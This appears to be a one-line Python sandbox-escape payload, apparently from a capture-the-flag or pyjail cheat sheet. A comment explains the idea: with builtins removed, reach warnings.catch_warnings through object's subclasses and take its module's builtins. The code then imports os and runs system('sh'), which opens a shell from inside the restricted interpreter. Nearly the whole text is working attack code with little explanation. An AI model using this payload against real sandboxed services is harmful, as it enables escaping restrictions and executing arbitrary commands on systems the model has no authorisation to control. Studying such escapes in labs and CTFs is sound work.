# restriction: builtins removed; idea: instantiate warnings.catch_warnings found among subclasses and use its _module's __builtins__
[c for c in {}.__class__.__base__.__subclasses__() if 'catch_warnings'==c.__name__][0]()._module.__builtins__['__import__']('os').system('sh')
